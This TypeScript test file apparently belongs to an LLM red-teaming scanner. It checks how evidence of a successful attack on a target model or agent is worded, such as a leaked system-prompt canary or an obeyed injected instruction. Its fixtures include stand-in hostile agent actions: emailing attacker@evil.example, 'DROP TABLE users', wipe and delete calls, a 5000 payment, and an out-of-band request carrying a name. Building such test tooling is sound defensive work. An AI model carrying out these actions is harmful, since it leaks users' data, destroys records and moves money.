import { argumentsText, proofSentence, proofShows, provenByAction, turnSpeaker, turnText } from './proof-wording';
import type { Proof } from './vulnerability';

describe('what a proof shows, in words', () => {
  it('says what the target said by what it matched', () => {
    expect(proofShows({ kind: 'canary', label: 'system prompt' })).toBe('the target\'s canary "system prompt"');
    expect(proofShows({ kind: 'sensitive', label: 'customer record' })).toBe('the sensitive value "customer record"');
    expect(proofShows({ kind: 'recurrence', occurrences: 3 })).toBe('a value that came back in 3 independent conversations');
    expect(proofShows({ kind: 'obedience' })).toBe('the instruction it obeyed');
  });

  it('says a tool call as the call: the tool and its arguments, each value as JSON', () => {
    expect(proofShows({ kind: 'tool_call', tool: 'send_email', arguments: { to: 'attacker@evil.example', subject: 'Q3' } })).toBe(
      'the agent called send_email with to="attacker@evil.example", subject="Q3"',
    );
    expect(proofShows({ kind: 'tool_call', tool: 'delete_records', arguments: {} })).toBe('the agent called delete_records with no arguments');
    // arguments that were not JSON are still evidence, quoted as written
    expect(proofShows({ kind: 'tool_call', tool: 'run_sql', arguments: 'DROP TABLE users' })).toBe('the agent called run_sql with "DROP TABLE users"');
  });

  it('says an out-of-band hit as the request that reached the planted address, and when', () => {
    expect(proofShows({ kind: 'out_of_band', method: 'GET', path: '/oob/7f3a/c', query: 'd=Jane', at: '2026-11-20T10:00:07Z' })).toBe(
      'a request reached the planted address: GET /oob/7f3a/c?d=Jane at 2026-11-20T10:00:07Z',
    );
    expect(proofShows({ kind: 'out_of_band', method: 'HEAD', path: '/oob/7f3a' })).toBe('a request reached the planted address: HEAD /oob/7f3a');
    expect(proofShows({ kind: 'out_of_band', method: 'DNS', path: '', host: 'abc.oob.example.com' })).toBe('a request reached the planted address: DNS lookup of abc.oob.example.com');
    expect(proofShows({ kind: 'out_of_band', method: 'GET', path: '/x', host: 'abc.oob.example.com' })).toBe('a request reached the planted address: GET //abc.oob.example.com/x');
  });

  it('bounds arguments: a line break stays one line, a long value and the whole line are cut', () => {
    const text = argumentsText({ body: `first\nsecond ${'x'.repeat(500)}`, to: 'a@b.example' });
    expect(text).not.toContain('\n');
    expect(text).toContain('body="first\\nsecond');
    expect(text.length).toBeLessThanOrEqual(300);
    expect(argumentsText({ a: 'y'.repeat(1000) }, 50)).toHaveLength(50);
  });

  it('keeps what the target chose on one line: control characters in a tool name, a key or a path never reach a view', () => {
    const said = proofShows({ kind: 'tool_call', tool: 'send\n\u001b[2Jmail', arguments: { 'to\nx': 'a' } });
    expect(said).toBe('the agent called send  [2Jmail with "to\\nx"="a"');
    expect(said).not.toMatch(/\p{Cc}/u);
    expect(proofShows({ kind: 'out_of_band', method: 'GET', path: '/oob/t/\r\nx' })).not.toMatch(/\p{Cc}/u);
  });

  it('tells what the target did from what it said', () => {
    expect(provenByAction({ kind: 'tool_call' })).toBe(true);
    expect(provenByAction({ kind: 'out_of_band' })).toBe(true);
    expect(provenByAction({ kind: 'obedience' })).toBe(false);
    expect(provenByAction(undefined)).toBe(false);
  });

  it('makes one line of a proof: a quote and what it matched, or the act itself', () => {
    const said: Proof = { turn: 1, start: 0, end: 4, text: 'PWND', matched: { kind: 'obedience' }, read_as: 'base64' };
    expect(proofSentence(said)).toBe('Proof (turn 2, read as base64): "PWND", the instruction it obeyed');
    const did: Proof = { turn: 1, start: 0, end: 0, text: 'send_payment', matched: { kind: 'tool_call', tool: 'send_payment', arguments: { amount: 5000 } } };
    expect(proofSentence(did)).toBe('Proof (turn 2): the agent called send_payment with amount=5000');
  });

  it('writes a turn with its calls, and a tool result as said by the tool', () => {
    expect(turnText({ content: '', tool_calls: [{ id: 'c1', name: 'send_email', arguments: { to: 'x@y.example' } }] })).toBe('-> called send_email(to="x@y.example")');
    expect(turnText({ content: 'On it.', tool_calls: [{ id: 'c1', name: 'wipe', arguments: {} }] })).toBe('On it.\n-> called wipe()');
    expect(turnSpeaker({ role: 'tool', name: 'fetch_url' })).toBe('tool fetch_url');
    expect(turnSpeaker({ role: 'user' })).toBe('user');
  });
});
